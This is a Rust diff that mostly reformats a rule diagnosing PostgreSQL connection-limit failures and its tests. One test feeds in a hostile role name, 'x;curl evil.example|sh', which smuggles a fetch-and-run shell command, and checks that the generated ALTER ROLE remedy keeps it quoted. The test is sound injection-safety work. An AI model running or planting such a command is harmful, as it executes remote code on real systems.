@@ -53,9 +53,7 @@ static LOG: Rule<Variant> = Rule {
         ),
         Signature::of_phrase(Variant::Server, Phrase::TooManyClients),
         Signature::of_phrase(Variant::Server, Phrase::SlotsReserved),
-        Signature::of(Variant::Server)
-            .only_database()
-            .class(&["TooManyConnections"]),
+        Signature::of(Variant::Server).only_database().class(&["TooManyConnections"]),
     ],
     details,
     explain: |evidence, occurrence, variant| explained(evidence, occurrence, variant, words),
@@ -74,10 +72,7 @@ const NEEDS: &str = "Flagsmith needs about pods × GUNICORN_WORKERS × GUNICORN_
 const NEEDED_TO_MIGRATE: i32 = 2;
 
 fn details(failure: &Failure<'_>, variant: Variant) -> Option<FailureDetails> {
-    let mut details = FailureDetails {
-        endpoint: failure.endpoint(),
-        ..FailureDetails::default()
-    };
+    let mut details = FailureDetails { endpoint: failure.endpoint(), ..FailureDetails::default() };
     match variant {
         Variant::Role => details.role = Some(failure.phrase(Phrase::TooManyForRole)?.to_owned()),
         Variant::Database => details.database = Some(failure.phrase(Phrase::TooManyForDatabase)?.to_owned()),
@@ -222,10 +217,7 @@ mod tests {
     #[case("FATAL:  too many connections for database \"fs\"", Variant::Database)]
     #[case("FATAL:  no more connections allowed (max_client_conn)", Variant::Pooler)]
     #[case("FATAL:  query_wait_timeout", Variant::PoolerWait)]
-    #[case(
-        "FATAL:  Timed-out waiting to acquire database connection",
-        Variant::PoolerBorrow
-    )]
+    #[case("FATAL:  Timed-out waiting to acquire database connection", Variant::PoolerBorrow)]
     fn who_is_full(#[case] said: &str, #[case] expected: Variant) {
         let message = format!("connection to server at \"db\", port 5432 failed: {said}");
         assert_eq!(
@@ -249,10 +241,7 @@ mod tests {
     #[case::nearly_full(95, &["held 95 of 97 connections: 70 by role \"billing\" in database \"billing\", application \"psql\"; 20 by pod flagsmith-api-abc"])]
     #[case::there_was_room(30, &[])]
     fn who_held_the_connections_is_told(#[case] used: i64, #[case] expected: &[&str]) {
-        let mut full = observed(
-            ProbeFailureKind::TooManyConnections,
-            "sorry, too many clients already",
-        );
+        let mut full = observed(ProbeFailureKind::TooManyConnections, "sorry, too many clients already");
         let holder = |user: &str, application: &str, address: Option<&str>, connections| Holder {
             user: user.to_owned(),
             database: user.to_owned(),
@@ -268,15 +257,8 @@ mod tests {
         }];
         full.queues.held = Some(Held {
             at: full.now,
-            connections: Connections {
-                limit: 100,
-                reserved: 3,
-                used,
-            },
-            holders: vec![
-                holder("billing", "psql", None, 70),
-                holder("flagsmith", "", Some("10.0.0.7"), 20),
-            ],
+            connections: Connections { limit: 100, reserved: 3, used },
+            holders: vec![holder("billing", "psql", None, 70), holder("flagsmith", "", Some("10.0.0.7"), 20)],
         });
         let evidence = only(&full).evidence;
         assert_eq!(evidence.len(), 1 + expected.len(), "{evidence:?}");
@@ -290,10 +272,7 @@ mod tests {
         let [injected, _, hidden, _] = HOSTILE;
         let of = |name: &str| {
             let at = "connection to server at \"db\", port 5432 failed: FATAL:  ";
-            remedy(
-                OPERATIONAL,
-                &format!("{at}too many connections for role \"{name}\""),
-            )
+            remedy(OPERATIONAL, &format!("{at}too many connections for role \"{name}\""))
         };
         assert!(of(injected).starts_with("ALTER ROLE \"x;curl evil.example|sh\" CONNECTION LIMIT -1;"));
         assert!(!of(hidden).contains("pwn"), "{}", of(hidden));
